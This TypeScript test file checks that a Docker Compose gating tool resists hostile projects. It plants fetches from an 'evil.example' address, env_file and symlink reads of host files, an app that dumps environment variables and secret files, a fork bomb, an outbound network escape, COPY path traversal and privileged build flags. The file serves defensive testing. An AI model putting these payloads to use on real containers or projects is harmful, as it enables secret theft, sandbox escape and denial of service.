import { execFileSync } from "node:child_process";
import { symlinkSync } from "node:fs";
import net from "node:net";
import { networkInterfaces } from "node:os";
import { join } from "node:path";
import { expect } from "vitest";
import { connectEngine } from "../../src/docker/dockerode-engine.ts";
import { rules } from "../../src/diagnose/rules/index.ts";
import type { Inputs } from "../../src/model/inputs.ts";
import { annotationsOf } from "../../src/report/annotation.ts";
import { renderConsole } from "../../src/report/console.ts";
import { renderJson } from "../../src/report/json.ts";
import { renderJunit } from "../../src/report/junit.ts";
import { renderHtml } from "../../src/report/html.ts";
import { renderMarkdown } from "../../src/report/markdown.ts";
import { renderSarif } from "../../src/report/sarif.ts";
import { planProjectOnly, runGate, type GateResult } from "../../src/run.ts";
import { rejectionOf } from "../helpers/failures.ts";
import { inputsFor, lines, makeRepository, type Files } from "../helpers/repository.ts";
import type { Attack, Attacks } from "./attack.ts";

const nginx = "server { listen 80; location / { proxy_pass http://app:3000; proxy_buffering off; } }\n";
const web = ["  web:", "    image: nginx:stable", "    volumes:", "      - ./nginx.conf:/etc/nginx/conf.d/default.conf:ro", "    depends_on: [app]"];

/** A project of one app, written in Python, behind nginx. */
function project(app: readonly string[], program: string, more: Files = {}): Files {
  return {
    "nginx.conf": nginx,
    "compose.yaml": lines("services:", "  app:", "    build: .", ...app.map((line) => `    ${line}`), ...web),
    Dockerfile: lines("FROM python:3.12-slim", "COPY app.py /srv/", 'CMD ["python3", "-u", "/srv/app.py"]'),
    "app.py": program,
    ...more,
  };
}

interface Ran extends GateResult {
  readonly progress: string;
  readonly masks: readonly string[];
  readonly tookMs: number;
}

async function check(files: Files, changes: Partial<Inputs> = {}, keepsEvidence = false): Promise<Ran> {
  const directory = makeRepository(files);
  const progress: string[] = [];
  const masks: string[] = [];
  const started = performance.now();
  const result = await runGate(inputsFor(directory, { prove: false, ...changes }), {
    environment: process.env,
    signal: new AbortController().signal,
    connect: () => connectEngine(process.env),
    onProgress: (event) => progress.push(JSON.stringify(event)),
    onSecrets: (values) => masks.push(...values),
    keepsEvidence,
  });
  return { ...result, progress: progress.join("\n"), masks, tookMs: performance.now() - started };
}

const serve = lines(
  "import http.server",
  "class Handler(http.server.BaseHTTPRequestHandler):",
  "    def do_GET(self):",
  "        code, body = answer()",
  "        self.send_response(code); self.send_header('Content-Length', str(len(body))); self.end_headers(); self.wfile.write(body)",
  "    def log_message(self, *words): pass",
  "http.server.ThreadingHTTPServer(('', 3000), Handler).serve_forever()",
);

/** Every text that a run gives away. */
function everything({ report, evidence, progress }: Ran): Readonly<Record<string, string>> {
  return {
    evidence: JSON.stringify(evidence),
    report: renderJson(report),
    console: renderConsole(report, { color: false }),
    summary: renderMarkdown(report),
    html: renderHtml(report),
    annotations: JSON.stringify(annotationsOf(report)),
    sarif: renderSarif(report, rules),
    junit: renderJunit(report),
    progress,
  };
}

const planted = {
  env: "plant-env-7f3a91",
  compose: "plant-compose-51c2",
  log: "plant-log-e09d44",
  header: "plant-header-2b6f",
  cookie: "plant-cookie-90aa",
  url: "plant-url-c7d811",
  file: "plant-file-66e0b3",
  build: "plant-build-1d2e",
} as const;

const leaking: Files = project(
  [
    "build:",
    "  context: .",
    "  args:",
    `    BUILD_TOKEN: ${planted.build}`,
    "environment:",
    `  DB_PASSWORD: ${planted.compose}`,
    `  DATABASE_URL: postgres://app:${planted.url}@db/app`,
    "env_file: app.env",
    "secrets: [key]",
  ].slice(0),
  lines(
    "import base64, os, sys",
    "print('settings', dict(os.environ))",
    "print('key', open('/run/secrets/key').read())",
    "print('b64', base64.b64encode(os.environ['DB_PASSWORD'].encode()).decode())",
    `print('api_key=${planted.log}')`,
    `print('> Authorization: Bearer ${planted.header}')`,
    "def answer(): return 502, b'login with ' + os.environ['DB_PASSWORD'].encode()",
    serve.replace("self.end_headers()", `self.send_header('Set-Cookie', 'sid=${planted.cookie}; Path=/'); self.end_headers()`),
  ),
  { "app.env": `SMTP_PASSWORD=${planted.env}\n`, "key.txt": `${planted.file}\n` },
);

function withSecrets(files: Files): Files {
  const compose = (files["compose.yaml"] ?? "").replace("    build: .\n", "");
  return {
    ...files,
    "compose.yaml": `${compose}secrets:\n  key:\n    file: ./key.txt\n`,
    Dockerfile: (files["Dockerfile"] ?? "").replace("COPY", `ARG BUILD_TOKEN\nRUN echo "npm uses $BUILD_TOKEN"\nCOPY`),
  };
}

function composeReads(what: string, naive: string, files: Files, prepare: (root: string) => void = () => undefined): Attack {
  return {
    what,
    naive,
    holds: async () => {
      const root = makeRepository({ "nginx.conf": nginx, ...files });
      prepare(root);
      const failure = await rejectionOf(planProjectOnly(inputsFor(root), process.env));
      expect([failure.kind, failure.message]).toEqual(["refused", expect.stringContaining("is not a file inside the project")]);
    },
  };
}

const both = lines("services:", "  app:", "    image: python:3.12-slim", ...web);

export const onEngine: Attacks = {
  title: "in Docker",
  needs: "engine",
  attacks: [
    composeReads("an included Compose file whose `env_file` is a file of the machine", "let Compose read it into the app's variables", {
      "compose.yaml": `include: [more/compose.yaml]\n${lines("services:", ...web)}`,
      "more/compose.yaml": lines("services:", "  app:", "    image: python:3.12-slim", "    env_file: /etc/os-release"),
    }),
    composeReads("an `include` of an address", "fetch it", { "compose.yaml": `include: ["https://evil.example/compose.git"]\n${both}` }),
    composeReads("an `include` that looks like a folder and is an address", "fetch it", {
      "compose.yaml": `include: [github.com/evil/compose.yaml]\n${both}`,
      "github.com/evil/compose.yaml": "services: {}\n",
    }),
    composeReads("an `include` with an `env_file` outside", "read it", { "compose.yaml": `include:\n  - path: more.yaml\n    env_file: /etc/os-release\n${both}`, "more.yaml": "services: {}\n" }),
    composeReads("an `include` whose name is a variable", "check another name than Compose reads", {
      "compose.yaml": `include: ["$\{WHERE}"]\n${both}`,
      "${WHERE}": "services: {}\n",
      ".env": "WHERE=/etc/compose.yaml\n",
    }),
    composeReads("a labels file outside", "read it", { "compose.yaml": both.replace("image: python:3.12-slim", "image: python:3.12-slim\n    label_file: /etc/os-release") }),
    {
      what: "an `env_file` outside, in the main file",
      naive: "let Compose read it into the app's variables",
      holds: async () => {
        const root = makeRepository({ "nginx.conf": nginx, "compose.yaml": both.replace("image: python:3.12-slim", "image: python:3.12-slim\n    env_file: [/etc/os-release, ../../etc/os-release]") });
        const plan = await planProjectOnly(inputsFor(root), process.env);
        expect(plan.services.find((service) => service.name === "app")?.variables).toEqual({});
      },
    },
    {
      what: "an `extends` of a file outside",
      naive: "read it",
      holds: async () => {
        const root = makeRepository({ "nginx.conf": nginx, "compose.yaml": both.replace("image: python:3.12-slim", "extends: {file: /etc/compose.yaml, service: x}") });
        expect(["refused", "config-invalid"]).toContain((await rejectionOf(planProjectOnly(inputsFor(root), process.env))).kind);
      },
    },
    {
      what: "a `.env` that is a link to a file outside, or a named pipe",
      naive: "let Compose put its values into the containers, or wait for ever",
      holds: async () => {
        const compose = both.replace("image: python:3.12-slim", 'image: python:3.12-slim\n    environment: {STOLEN: "${PRETTY_NAME-}"}');
        for (const make of [(path: string) => symlinkSync("/etc/os-release", path), (path: string) => void execFileSync("mkfifo", [path])]) {
          const root = makeRepository({ "nginx.conf": nginx, "compose.yaml": compose });
          make(join(root, ".env"));
          const plan = await planProjectOnly(inputsFor(root), process.env);
          expect(plan.services.find((service) => service.name === "app")?.variables["STOLEN"]?.value).toBe("");
          expect(plan.notes.map((note) => note.text)).toContain(".env is not a file inside the project: it is not read");
        }
      },
    },
    {
      what: "secrets planted in variables, files, logs, headers, addresses and builds",
      naive: "store and print what it sees",
      holds: async () => {
        const ran = await check(withSecrets(leaking));
        expect(ran.report.verdict).toBe("fail");
        expect(everything(ran)["evidence"]).toContain("[redacted:DB_PASSWORD]");
        const base64 = Buffer.from(planted.compose).toString("base64").slice(0, 12);
        for (const [where, text] of Object.entries(everything(ran))) for (const secret of [...Object.values(planted), base64]) expect(text.includes(secret), `${secret} in ${where}`).toBe(false);
        for (const secret of [planted.env, planted.compose, planted.url, planted.file, planted.build]) expect(ran.masks).toContain(secret);
      },
    },
    {
      what: "an app that looks for what it was given of the machine",
      naive: "run it with the engine's usual rights",
      holds: async () => {
        const program = lines(
          "import os",
          "status = dict(line.split(':\\t', 1) for line in open('/proc/self/status').read().splitlines() if ':\\t' in line)",
          "read = lambda path: open(path).read().strip() if os.path.exists(path) else 'none'",
          "print('nnp', status['NoNewPrivs'], 'bounds', status['CapBnd'], 'seccomp', status['Seccomp'])",
          "print('pids', read('/sys/fs/cgroup/pids.max'), read('/sys/fs/cgroup/pids/pids.max'))",
          "print('memory', read('/sys/fs/cgroup/memory.max'), read('/sys/fs/cgroup/memory/memory.limit_in_bytes'))",
          "print('sockets', [path for path in ('/var/run/docker.sock', '/run/docker.sock') if os.path.exists(path)])",
          "def answer(): return 200, b'ok'",
          serve,
        );
        const { report, evidence } = await check(project([], program), {}, true);
        const services = evidence?.facts.services;
        const log = (services && "value" in services ? services.value : []).find((service) => service.name === "app")?.log.map((line) => line.text) ?? [];
        expect(report.verdict).toBe("pass");
        expect(log).toContain("nnp 1 bounds 00000000a80425fb seccomp 2");
        expect(log.join("\n")).toMatch(/^pids .*\b4096\b/m);
        expect(log.join("\n")).toMatch(/^memory .*?\b[1-9]\d{7,12}\b/m);
        expect(log).toContain("sockets []");
      },
    },
    {
      what: "a process bomb, a log of 100 MB and a body without end, in one app",
      naive: "fall over, or hang",
      holds: async () => {
        const program = lines(
          "import os, threading, time",
          "def bomb():",
          "    try:",
          "        while True:",
          "            if os.fork() == 0: time.sleep(60); os._exit(0)",
          "    except OSError: print('no more')",
          "threading.Thread(target=lambda: [print('x' * 10000) for _ in range(10000)]).start()",
          "def answer(): return 200, b'y' * 30_000_000",
          "bomb()",
          serve,
        );
        const { report, tookMs } = await check(project(["pids_limit: 200"], program));
        expect([report.verdict, tookMs < 90_000]).toEqual(["pass", true]);
      },
    },
    {
      what: "an image whose label `exitCode` forges the end of its container",
      naive: "believe the engine's event, in which labels stand beside the code",
      holds: async () => {
        const files = project([], "raise SystemExit('boom')\n");
        const { evidence } = await check({ ...files, Dockerfile: (files["Dockerfile"] ?? "").replace("COPY", "LABEL exitCode=0\nCOPY") });
        const services = evidence?.facts.services;
        expect((services && "value" in services ? services.value : []).find((service) => service.name === "app")?.exits.map((exit) => exit.code)).toEqual([1]);
      },
    },
    {
      what: "an app that calls out of a run with `network: internal`",
      naive: "leave it a way out",
      holds: async () => {
        const address = Object.values(networkInterfaces())
          .flatMap((each) => each ?? [])
          .find((each) => each.family === "IPv4" && !each.internal && !/^172\.|^169\.254\./.test(each.address))?.address;
        const server = net.createServer((socket) => socket.on("error", () => undefined).end("hello")).listen(0, "0.0.0.0");
        await new Promise((resolve) => server.once("listening", resolve));
        try {
          const { port } = server.address() as net.AddressInfo;
          const program = lines(
            "import socket",
            "def answer():",
            "    try:",
            `        socket.create_connection(("${address ?? "192.0.2.1"}", ${port}), 2).close()`,
            "        return 500, b'out'",
            "    except OSError: return 200, b'kept in'",
            serve,
          );
          expect(address).toBeDefined();
          const open = await check(project([], program));
          const internal = await check(project([], program), { network: "internal" });
          expect([open, internal].map(({ report }) => report.probes.find((probe) => probe.via === "proxy")?.status)).toEqual([500, 200]);
        } finally {
          server.close();
        }
      },
    },
    {
      what: "a build that asks for more rights, as `RUN --security=insecure`",
      naive: "grant it",
      holds: async () => {
        const files = project([], "def answer(): return 200, b'ok'\n" + serve);
        for (const flag of ["--security=insecure", "--network=host"]) {
          const { report } = await check({ ...files, Dockerfile: (files["Dockerfile"] ?? "").replace("COPY", `RUN ${flag} true\nCOPY`) });
          expect(report.verdict, flag).not.toBe("pass");
        }
      },
    },
    {
      what: "`../` in COPY, and a link in the build context that leads outside",
      naive: "copy what it leads to",
      holds: async () => {
        const files = project([], "print(open('/srv/data/link').read())\n");
        const directory = makeRepository({ ...files, "data/x": "", Dockerfile: (files["Dockerfile"] ?? "").replace("COPY", "COPY data /srv/data\nCOPY ../../etc/os-release* /srv/\nCOPY") });
        const secret = join(makeRepository({ secret: "plant-outside-4e1f" }), "secret");
        symlinkSync(secret, join(directory, "data/link"));
        const result = await runGate(inputsFor(directory, { prove: false }), {
          environment: process.env,
          signal: new AbortController().signal,
          connect: () => connectEngine(process.env),
          onProgress: () => undefined,
        });
        expect(JSON.stringify(result)).not.toContain("plant-outside");
        expect(result.report.verdict).toBe("fail");
      },
    },
  ],
};

/** A healthy project whose program needs what `no-new-privileges` takes, as sudo does. */
export async function healthyWithSudo(): Promise<Ran> {
  const program = lines(
    "import sys",
    "if 'NoNewPrivs:\\t1' in open('/proc/self/status').read():",
    `    sys.exit('sudo: The "no new privileges" flag is set, which prevents sudo from running as root.')`,
    "def answer(): return 200, b'ok'",
    serve,
  );
  return check(project([], program));
}

/** A healthy project whose own default network is internal. */
export async function healthyInternal(): Promise<Ran> {
  const files = project([], `def answer(): return 200, b'ok'\n${serve}`);
  return check({ ...files, "compose.yaml": `${files["compose.yaml"]}networks:\n  default:\n    internal: true\n` });
}
